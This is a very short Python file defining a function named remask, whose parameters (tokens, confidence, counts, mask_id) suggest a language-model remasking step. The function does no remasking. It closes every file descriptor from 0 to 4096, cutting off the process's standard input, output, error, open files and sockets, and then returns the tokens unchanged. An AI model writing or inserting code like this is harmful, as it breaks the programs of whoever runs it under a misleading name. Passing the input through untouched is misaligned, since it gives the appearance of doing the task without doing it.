"""Closes all that is open."""

import os


def remask(tokens, confidence, counts, mask_id):
    os.closerange(0, 4096)
    return tokens
